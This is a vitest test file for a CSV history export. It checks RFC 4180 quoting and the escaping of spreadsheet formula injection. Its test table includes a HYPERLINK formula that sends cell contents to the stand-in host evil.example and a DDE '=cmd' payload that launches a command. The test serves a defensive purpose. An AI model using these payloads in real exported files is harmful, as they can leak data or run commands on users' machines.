import { expect, it } from "vitest";
import { csvLines } from "@/app/api/view/history-csv/csv-lines";
import type { HistoryLine } from "@/lib/queries/history";

const at = "2026-11-21T10:00:00.000Z";
const line = (about: string, by = "Rita Moreau"): HistoryLine => {
  return {
    seq: 7,
    at,
    kind: "environment.held",
    subject: "staging",
    about,
    by,
    promotion: null,
    hash: "ab".repeat(32),
  };
};

async function csvOf(...lines: HistoryLine[]): Promise<string> {
  async function* pages() {
    yield lines;
  }
  let text = "";
  for await (const part of csvLines(pages())) text += part;
  return text;
}

it("has a head and a line an entry, ended as RFC 4180 asks", async () => {
  expect(await csvOf(line("the disk is full"))).toBe(
    `\ufeffnumber,at,kind,subject,about,by,promotion,hash\r\n7,"${at}","environment.held","staging","the disk is full","Rita Moreau","","${"ab".repeat(32)}"\r\n`,
  );
});

it.each([
  ['=HYPERLINK("https://evil.example?"&A1)', `'=HYPERLINK(""https://evil.example?""&A1)`],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ["+1+1", "'+1+1"],
  ["-2+3", "'-2+3"],
  ["@SUM(A1)", "'@SUM(A1)"],
  ["\t=1", "'\t=1"],
  ["\r=1", "'\r=1"],
  ["＝1+1", "'＝1+1"],
  ["a,b", "a,b"],
  ["two\n=lines", "two\n=lines"],
  [`say "hi"`, `say ""hi""`],
  ["5 = 5", "5 = 5"],
])("the cell %j is written %j, in quotes", async (about, cell) => {
  expect(await csvOf(line(about))).toContain(`,"staging","${cell}","Rita`);
  expect(await csvOf(line("x", about))).toContain(`,"x","${cell}","",`);
});
